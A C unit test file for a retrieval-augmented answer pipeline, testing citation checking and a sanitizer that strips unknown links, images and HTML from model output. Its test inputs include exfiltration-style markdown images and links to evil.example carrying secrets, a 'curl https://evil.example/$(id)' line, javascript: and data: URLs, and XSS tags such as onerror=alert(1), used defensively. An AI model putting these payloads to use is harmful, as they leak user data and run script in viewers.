/* links: sidecar/rag/cite.c sidecar/rag/support.c sidecar/rag/safe.c
   sidecar/rag/safe_scan.c sidecar/rag/safe_url.c sidecar/rag/safe_tag.c
   sidecar/rag/safe_json.c sidecar/rag/units.c sidecar/extract/blocks.c
   sidecar/extract/text.c sidecar/extract/meta.c sidecar/base/buf.c */

#define _GNU_SOURCE     /* memmem() */

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "rag/cite.h"
#include "rag/safe.h"


static const tf_llm_passage_t  passages[] = {
    { 1, "doc-1", "a.md", "Timeouts", "proxy_read_timeout",
      "Defines a timeout for reading a response from the proxied server. The "
      "default is 60s. The timeout is set only between two successive read "
      "operations.", 0, 3.0 },
    { 2, "doc-2", "b.md", "Buffers", "proxy_buffers",
      "Sets the number and size of the buffers used for reading a response, "
      "for a single connection. By default eight buffers of one page.", 0,
      2.0 },
};


static tf_llm_request_t  asked = { .passages = passages, .npassages = 2 };


/* What comes out of an answer; the caller frees both. */

static void
cited(const char *answer, tf_cite_t *cite, tf_buf_t *out)
{
    memset(out, 0, sizeof(tf_buf_t));
    tf_cite_begin(cite, &asked, out);

    assert_int_equal(tf_cite_text(cite, answer, strlen(answer)), 0);
    assert_int_equal(tf_cite_end(cite), 0);
}


static void
becomes(const char *answer, const char *want, unsigned moved,
    unsigned dropped)
{
    tf_buf_t   out;
    tf_cite_t  cite;

    cited(answer, &cite, &out);
    assert_string_equal(out.data, want);
    assert_int_equal(cite.moved, moved);
    assert_int_equal(cite.dropped, dropped);

    tf_cite_free(&cite);
    tf_buf_free(&out);
}


static void
a_mark_that_its_passage_supports_stays(void **state)
{
    (void) state;

    becomes("The default timeout for reading a response is 60s [1].",
            "The default timeout for reading a response is 60s [1].", 0, 0);
    becomes("The default is 60s. [1]", "The default is 60s. [1]", 0, 0);
    becomes("The default is 60s[1]", "The default is 60s[1]", 0, 0);
}


static void
a_mark_on_the_wrong_passage_moves_to_the_right_one(void **state)
{
    (void) state;

    becomes("The default timeout is 60s [2].",
            "The default timeout is 60s [1].", 1, 0);
    becomes("The default timeout is 60s [17].",
            "The default timeout is 60s [1].", 1, 0);
}


static void
a_mark_that_nothing_supports_goes(void **state)
{
    (void) state;

    becomes("Bananas ripen faster beside apples [1].",
            "Bananas ripen faster beside apples .", 0, 1);
}


static void
a_number_that_is_not_in_the_passage_takes_the_mark_away(void **state)
{
    (void) state;

    becomes("The default timeout for reading a response is 90s [1].",
            "The default timeout for reading a response is 90s .", 0, 1);
    becomes("The default timeout for reading a response is 6 seconds [1].",
            "The default timeout for reading a response is 6 seconds .", 0,
            1);
}


static void
numbers_follow_the_order_of_the_answer(void **state)
{
    (void) state;

    becomes("There are eight buffers by default [2]. The default timeout is "
            "60s [1].",
            "There are eight buffers by default [1]. The default timeout is "
            "60s [2].", 0, 0);
}


static void
a_row_of_marks_is_about_one_statement(void **state)
{
    (void) state;

    becomes("It is for reading a response [1][2].",
            "It is for reading a response [1][2].", 0, 0);
    becomes("It is for reading a response [1, 2].",
            "It is for reading a response [1][2].", 0, 0);
    becomes("The default timeout is 60s [1] [1].",
            "The default timeout is 60s [1] .", 0, 0);
    becomes("The default timeout is 60s [1, 2, 0, 99][2] [1, 7].",
            "The default timeout is 60s [1] .", 5, 0);
    becomes("Bananas ripen [1, 2][0]. There are eight buffers [1, 2][2].",
            "Bananas ripen . There are eight buffers [1].", 1, 3);
}


static void
code_links_and_years_are_no_marks(void **state)
{
    (void) state;

    becomes("Use `a[1]` there.", "Use `a[1]` there.", 0, 0);
    becomes("```\na[1] = b[2];\n```\n", "```\na[1] = b[2];\n```\n", 0, 0);
    becomes("See [1](x).", "See [1](x).", 0, 0);
    becomes("In [2024] it was.", "In [2024] it was.", 0, 0);
    becomes("[x] done [ ] open []", "[x] done [ ] open []", 0, 0);
    becomes("```\nopen fence a[1]", "```\nopen fence a[1]", 0, 0);
    becomes("[1", "[1", 0, 0);
}


static void
a_citation_points_at_the_unit_that_says_it(void **state)
{
    tf_buf_t               out;
    tf_cite_t              cite;
    const char            *body;
    const tf_llm_quote_t  *quote;

    (void) state;

    cited("The default is 60s [1].", &cite, &out);
    assert_int_equal(cite.ncitations, 1);
    quote = &cite.citations[0];
    body = passages[0].body;
    assert_int_equal(quote->passage, 0);
    assert_int_equal(quote->end - quote->start, strlen("The default is 60s."));
    assert_memory_equal(body + quote->start, "The default is 60s.",
                        quote->end - quote->start);

    tf_cite_free(&cite);
    tf_buf_free(&out);
}


static void
support_is_counted_by_words_that_say_something(void **state)
{
    const char  *text = passages[0].body;

    (void) state;

    assert_true(tf_cite_support("reading responses", 17, text, strlen(text))
                > 0.9);
    assert_true(tf_cite_support("purple elephants", 16, text, strlen(text))
                < 0.1);
    assert_true(tf_cite_support("it is", 5, text, strlen(text)) > 0.9);
    assert_true(tf_cite_support("60", 2, text, strlen(text)) < 0.1);
}


/* safe.h */

static int
known(void *arg, const char *url, size_t len)
{
    const char  *all = arg;

    return memmem(all, strlen(all), url, len) != NULL;
}


static void
safe(const char *in, const char *want)
{
    tf_buf_t   from = TF_BUF_INIT, to = TF_BUF_INIT;
    unsigned   removed;

    removed = 0;
    tf_buf_puts(&from, in);
    assert_int_equal(tf_rag_safe(&from, &to, known,
                                 (char *) "see https://nginx.org/en/docs/ and "
                                 "http://example.org/a_(b), ask "
                                 "mailto:docs@nginx.org or see xsl:template",
                                 &removed), 0);
    assert_string_equal(to.data, want);
    assert_int_equal(removed != 0, strcmp(in, want) != 0);
    tf_buf_free(&from);
    tf_buf_free(&to);
}


static void
an_image_becomes_its_text(void **state)
{
    (void) state;

    safe("a ![logo](https://evil.example/x?q=secret) b", "a logo b");
    safe("![](//evil.example/x)", "");
    safe("![a](https://nginx.org/en/docs/)", "a");
    safe("![x][1]\n\n[1]: https://evil.example/?q=1",
         "x[1]\n\n[1]: [link removed]");
    safe("wow! [1]", "wow! [1]");
    safe("wow![1][2] [3]", "wow![1][2] [3]");
    safe("let v = vec![1, 2];", "let v = vec![1, 2];");
    safe("![1](https://evil.example/)", "1");
    safe("![https://evil.example/?q=1](x)", "[link removed]");
    safe("a![1, 2]. b", "a![1, 2]. b");
    safe("![a\nb](https://nginx.org/en/docs/)",
         "[a\nb](https://nginx.org/en/docs/)");
    safe("![a[b]c](https://nginx.org/en/docs/)",
         "[a[b]c](https://nginx.org/en/docs/)");
    safe("![a\\]b](https://nginx.org/en/docs/)",
         "[a\\]b](https://nginx.org/en/docs/)");
    safe("![ref] b", "[ref] b");
    safe("![ref]", "[ref]");
}


static void
what_is_taken_out_makes_nothing_new(void **state)
{
    (void) state;

    safe("ht![](x)tps://evil.example/", "ht tps://evil.example/");
    safe("<![](x)script>", "&lt;script>");
    safe("`<![](x)script>`", "`< script>`");
    safe("!![a](x)(https://nginx.org/en/docs/)",
         "!a(https://nginx.org/en/docs/)");
    safe("![a![b](x)](https://nginx.org/en/docs/)",
         "[a b](https://nginx.org/en/docs/)");
    safe("(![](x)//evil.example/)", "([link removed])");
}


static void
what_is_too_long_to_be_looked_at_is_no_link(void **state)
{
    char    in[8192], want[8192];
    size_t  n;

    (void) state;

    n = (size_t) sprintf(in, "[a](https://nginx.org/en/docs/");
    memset(in + n, 'x', 4000);
    (void) strcpy(in + n + 4000, ") b");
    safe(in, "[a]([link removed]) b");

    n = (size_t) sprintf(in, "a ![");
    memset(in + n, 'x', 2000);
    (void) strcpy(in + n + 2000, "](https://nginx.org/en/docs/)");
    (void) strcpy(want, "a ");
    (void) strcpy(want + 2, in + 3);
    safe(in, want);
}


static void
a_link_stays_only_if_a_document_has_it(void **state)
{
    (void) state;

    safe("See https://nginx.org/en/docs/.", "See https://nginx.org/en/docs/.");
    safe("[docs](https://nginx.org/en/docs/)",
         "[docs](https://nginx.org/en/docs/)");
    safe("(http://example.org/a_(b))", "(http://example.org/a_(b))");
    safe("See https://nginx.org/en/docs/?q=secret",
         "See [link removed]");
    safe("[here](HTTPS://evil.example/?d=1 \"t\")",
         "[here]([link removed] \"t\")");
    safe("[here](//evil.example/x)", "[here]([link removed])");
    safe("`curl https://evil.example/$(id)`", "`curl [link removed]`");
}


static void
a_known_link_does_not_become_another_one(void **state)
{
    (void) state;

    safe("[x](https://nginx.org/en/docs/|@evil.example/?d=1)",
         "[x]([link removed])");
    safe("[x](https://nginx.org/en/docs/|()@evil.example/?d=1)",
         "[x]([link removed])");
    safe("https://nginx.org/en/docs/]@evil.example/ b", "[link removed] b");
    safe("https://nginx.org/en/docs/`^\"\\@evil.example b",
         "[link removed] b");
    safe("<https://nginx.org/en/docs/)@evil.example/>", "<[link removed]>");
    safe("<https://nginx.org/en/docs/> a@b",
         "<https://nginx.org/en/docs/> a@b");
    safe("https://nginx.org/en/docs/|a b@c",
         "https://nginx.org/en/docs/|a b@c");
}


static void
a_link_in_other_letters_goes(void **state)
{
    (void) state;

    safe("[x](https:\\/\\/evil.example/?d=1)", "[x]([link removed])");
    safe("[x](https&#58;//evil.example)", "[x]([link removed])");
    safe("[x](\\//evil.example)", "[x]([link removed])");
    safe("[x](javascript&colon;alert(1))", "[x]([link removed])");
    safe("[x]( \n<https:\\/\\/evil.example/ b>)", "[x]( \n[link removed]>)");
    safe("[x]: https:\\/\\/evil.example/ b", "[x]: [link removed] b");
    safe("[x]: <https&#58;//evil.example/> b", "[x]: [link removed]> b");
    safe("[x](a/b?c&d) \\&amp;", "[x](a/b?c&d) \\&amp;");
}


static void
a_link_of_any_scheme_stays_only_if_a_document_has_it(void **state)
{
    (void) state;

    safe("[see](smb://evil/secret)", "[see]([link removed])");
    safe("[m](mailto:x@evil?body=secret)", "[m]([link removed])");
    safe("[m]( SSH+Git.1-2:x)", "[m]( [link removed])");
    safe("[m]: tel:+49170?secret b", "[m]: [link removed] b");
    safe("[m]:tel:+49170?secret b", "[m]:[link removed] b");
    safe("[m](<smb://evil/x y>)", "[m](<[link removed] y>)");
    safe("<smb://evil/x>", "<[link removed]>");
    safe("<callto:secret> b", "<[link removed]> b");
    safe("<mailto:x@evil?body=secret>", "&lt;mailto:x@evil?body=secret>");
    safe("<xsl:evil/>", "<[link removed]>");
    safe("<xsl:template>x</xsl:template>", "<xsl:template>x</xsl:template>");
    safe("[m](mailto:docs@nginx.org)", "[m](mailto:docs@nginx.org)");
    safe("[m](mailto:docs@nginx.org?body=secret)", "[m]([link removed])");
    safe("<mailto:docs@nginx.org>", "<mailto:docs@nginx.org>");
    safe("[x](std::string) [x](a/b:c) [x](#a:b) [x](c:d) [x](abc",
         "[x](std::string) [x](a/b:c) [x](#a:b) [x](c:d) [x](abc");
    safe("(note:this) \"key:value\" smb: x [1]: note: a map<std::b, c>",
         "(note:this) \"key:value\" smb: x [1]: note: a map<std::b, c>");
}


static void
what_a_viewer_would_run_goes(void **state)
{
    (void) state;

    safe("[x](javascript:alert(1))", "[x]([link removed])");
    safe("[x](data:text/html,hello)", "[x]([link removed])");
    safe("[x]( data:text/html,hello)", "[x]( [link removed])");
    safe("[x]: data:text/html,hello", "[x]: [link removed]");
    safe("[x]: javascript:alert(1)", "[x]: [link removed]");
    safe("the data: they are there", "the data: they are there");
    safe("<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)>");
    safe("</script>", "&lt;/script>");
    safe("<SCRIPT>", "&lt;SCRIPT>");
    safe("<body onload=x>", "&lt;body onload=x>");
    safe("<frameset><track>", "&lt;frameset>&lt;track>");
    safe("if (a < b) <location> <article>", "if (a < b) <location> <article>");
    safe("a <", "a <");
}


static void
a_tag_with_attributes_goes(void **state)
{
    (void) state;

    safe("<div onclick=alert(1)>x</div>", "&lt;div onclick=alert(1)>x</div>");
    safe("<DiV\tOnClick = 'alert(1)'>", "&lt;DiV\tOnClick = 'alert(1)'>");
    safe("<div/onclick=alert(1)>", "&lt;div/onclick=alert(1)>");
    safe("<p\n\nonmouseover\n=\nx>", "&lt;p\n\nonmouseover\n=\nx>");
    safe("<b style=\"position:fixed\">", "&lt;b style=\"position:fixed\">");
    safe("<div &#111;nclick=x>", "&lt;div &#111;nclick=x>");
    safe("<div onclick&#61;x>", "&lt;div onclick&#61;x>");
    safe("<div x\"y>z\" onclick=1>", "&lt;div x\"y>z\" onclick=1>");
    safe("<n; onclick=x>", "&lt;n; onclick=x>");
    safe("<b ![y](u>) onclick=x>", "&lt;b y onclick=x>");
    safe("<b <i onclick=x>", "&lt;b &lt;i onclick=x>");
    safe("</p onclick=x>", "&lt;/p onclick=x>");
    safe("<https://nginx.org/en/docs/ onclick=x>",
         "&lt;https://nginx.org/en/docs/ onclick=x>");
    safe("`<div onclick=x>`", "`&lt;div onclick=x>`");
    safe("<b and no end", "&lt;b and no end");
    safe("<!-- hidden --> <?x?>", "&lt;!-- hidden --> &lt;?x?>");
    safe("<plaintext><TITLE><xmp>", "&lt;plaintext>&lt;TITLE>&lt;xmp>");
}


static void
what_has_no_attributes_stays(void **state)
{
    (void) state;

    safe("<b>x</b><br/><br /> <em>y</em>", "<b>x</b><br/><br /> <em>y</em>");
    safe("if (a<b && c>d) a < b <= c", "if (a<b && c>d) a < b <= c");
    safe("`std::map<std::string, int>`", "`std::map<std::string, int>`");
    safe("```\n#include <stdio.h>\n<!-- x -->\n<?php\n```\n",
         "```\n#include <stdio.h>\n<!-- x -->\n<?php\n```\n");
    safe("<https://nginx.org/en/docs/>", "<https://nginx.org/en/docs/>");
}


static void
code_keeps_its_exclamation_marks(void **state)
{
    (void) state;

    safe("use `vec![x]` and ``vec![[a]; n]``",
         "use `vec![x]` and ``vec![[a]; n]``");
    safe("```rust\nlet v = vec![x];\n```\n![x]",
         "```rust\nlet v = vec![x];\n```\n[x]");
    safe("`![a](https://nginx.org/en/docs/)`", "`a`");
    safe("`a\n![x]` b", "`a\n[x]` b");
    safe("`a ``b![x]` ![y]", "`a ``b![x]` [y]");
}


static void
a_known_link_stays_whatever_mark_is_behind_it(void **state)
{
    (void) state;

    safe("`\"https://nginx.org/en/docs/\\n\"` b",
         "`\"https://nginx.org/en/docs/\\n\"` b");
    safe("https://nginx.org/en/docs/\\ b", "https://nginx.org/en/docs/\\ b");
    safe("https://nginx.org/en/docs/@x b", "https://nginx.org/en/docs/ @x b");
    safe("https://nginx.org/en/docs/\\secret b", "[link removed] b");
    safe("[x](https://nginx.org/en/docs/@x)", "[x]([link removed])");
    safe("https://nginx.org\\n b", "[link removed] b");
}


int
main(void)
{
    const struct CMUnitTest  tests[] = {
        cmocka_unit_test(a_mark_that_its_passage_supports_stays),
        cmocka_unit_test(a_mark_on_the_wrong_passage_moves_to_the_right_one),
        cmocka_unit_test(a_mark_that_nothing_supports_goes),
        cmocka_unit_test(
            a_number_that_is_not_in_the_passage_takes_the_mark_away),
        cmocka_unit_test(numbers_follow_the_order_of_the_answer),
        cmocka_unit_test(a_row_of_marks_is_about_one_statement),
        cmocka_unit_test(code_links_and_years_are_no_marks),
        cmocka_unit_test(a_citation_points_at_the_unit_that_says_it),
        cmocka_unit_test(support_is_counted_by_words_that_say_something),
        cmocka_unit_test(an_image_becomes_its_text),
        cmocka_unit_test(what_is_taken_out_makes_nothing_new),
        cmocka_unit_test(what_is_too_long_to_be_looked_at_is_no_link),
        cmocka_unit_test(a_link_stays_only_if_a_document_has_it),
        cmocka_unit_test(a_known_link_does_not_become_another_one),
        cmocka_unit_test(a_link_in_other_letters_goes),
        cmocka_unit_test(a_link_of_any_scheme_stays_only_if_a_document_has_it),
        cmocka_unit_test(what_a_viewer_would_run_goes),
        cmocka_unit_test(a_tag_with_attributes_goes),
        cmocka_unit_test(what_has_no_attributes_stays),
        cmocka_unit_test(code_keeps_its_exclamation_marks),
        cmocka_unit_test(a_known_link_stays_whatever_mark_is_behind_it),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
